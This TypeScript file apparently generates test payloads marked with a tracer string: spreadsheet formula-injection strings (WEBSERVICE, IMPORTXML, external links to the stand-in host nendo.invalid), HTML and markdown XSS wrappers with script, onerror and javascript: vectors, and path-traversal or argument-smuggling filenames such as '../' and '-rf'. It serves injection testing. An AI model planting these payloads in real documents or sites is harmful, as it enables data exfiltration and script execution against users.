/** Stands in every payload: where it is found in a file, the payload has come through. */
export const MARK = '点検札';

/** How many of each kind there are. */
const EACH = 200;

/** What spreadsheets take for the start of a formula, alone and behind what they pass over. */
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '⁺',
  '\t=',
  '\t＋',
  ' =',
  '　＝',
  '\u200b=',
  '\ufeff+',
  '=-',
  '+-',
  '-+',
  '@=',
];

/** What a formula would do: compute, fetch, link, run, look into other books. */
const FORMULA_BODIES = [
  `1+1&"${MARK}"`,
  `HYPERLINK("http://nendo.invalid/${MARK}","開く")`,
  `SUM(A1:A9)*1&"${MARK}"`,
  `${MARK}|'引数'!A0`,
  `WEBSERVICE("http://nendo.invalid/"&A1&"${MARK}")`,
  `'[http://nendo.invalid/b.xlsx]${MARK}'!A1`,
  `IMPORTXML("http://nendo.invalid/${MARK}","//a")`,
  `INDIRECT("${MARK}!A1")`,
  `RTD("prog.id","","${MARK}")`,
  `IF(TRUE,"${MARK}","")`,
];

/** Elements and attributes that would run, load or lead somewhere. */
const HTML_FRAMES: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `</td></tr></table><script>${script}</script>`,
  (script) => `"><img src=x onerror="${script}">`,
  (script) => `'><svg onload='${script}'>`,
  (script) => `<a href="javascript:${script}">${MARK}</a>`,
  (script) => `<iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;"></iframe>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</style><style>td{background:url("http://nendo.invalid/?${script}")}</style>`,
  (script) => `--><script>${script}</script><!--`,
  (script) => `]]><script>${script}</script>`,
  (script) => `[${MARK}](javascript:${script})`,
  (script) => `![${MARK}](http://nendo.invalid/${script})`,
  (script) => `<form action="http://nendo.invalid/${MARK}"><button onclick="${script}">送信</button></form>`,
  (script) => `<meta http-equiv="refresh" content="0;url=http://nendo.invalid/${script}">`,
  (script) => `<base href="http://nendo.invalid/${MARK}/"><b onmouseover=${script}>`,
  (script) => `\`\`\`\n<script>${script}</script>\n\`\`\``,
  (script) => `<object data="http://nendo.invalid/${script}"></object>`,
  (script) => `<math><mtext></mtext><a xlink:href="javascript:${script}">${MARK}</a></math>`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `http://nendo.invalid/${MARK}?${script} www.nendo.invalid ${MARK}@nendo.invalid`,
];

const SCRIPTS = [
  `alert('${MARK}')`,
  `fetch('/api/${MARK}')`,
  `document.title='${MARK}'`,
  `location='//nendo.invalid/${MARK}'`,
  `window.${MARK}=1`,
  `parent.postMessage('${MARK}','*')`,
  `eval("'${MARK}'")`,
  `new Image().src='//nendo.invalid/${MARK}'`,
  `import('//nendo.invalid/${MARK}.js')`,
  `document.write('<b>${MARK}</b>')`,
];

/** Ways out of a folder, and names that some system takes for something else. */
const PATH_FRAMES: readonly ((name: string) => string)[] = [
  (name) => `../${name}`,
  (name) => `../../../../../../tmp/${name}`,
  (name) => `/tmp/${name}`,
  (name) => `..\\..\\${name}`,
  (name) => `C:\\Windows\\${name}`,
  (name) => `\\\\server\\share\\${name}`,
  (name) => `file:///tmp/${name}`,
  (name) => `%2e%2e%2f${name}`,
  (name) => `．．／${name}`,
  (name) => `..／${name}`,
  (name) => `~/${name}`,
  (name) => `$HOME/${name}`,
  (name) => `./${name}/..`,
  (name) => `${name}/../../${name}`,
  (name) => `xl/worksheets/${name}`,
  (name) => `[Content_Types].xml/${name}`,
  (name) => `${name}]'!A1:*?`,
  (name) => `CON.${name}`,
  (name) => `${name}:stream`,
  (name) => `-rf ${name}`,
];

const NAMES = [
  `${MARK}.txt`,
  `${MARK}.html`,
  `${MARK}`,
  `.${MARK}`,
  `${MARK}.json`,
  `${MARK}.`,
  `${MARK} `,
  `${MARK}.exe`,
  `${MARK}.lnk`,
  `${MARK}.desktop`,
];

const pairs = <A, B>(some: readonly A[], others: readonly B[]): [A, B][] =>
  some.flatMap((one) => others.map((other): [A, B] => [one, other])).slice(0, EACH);

export const FORMULAS = pairs(STARTS, FORMULA_BODIES).map(([start, body]) => start + body);
export const MARKUPS = pairs(HTML_FRAMES, SCRIPTS).map(([frame, script]) => frame(script));
export const PATHS = pairs(PATH_FRAMES, NAMES).map(([frame, name]) => frame(name));
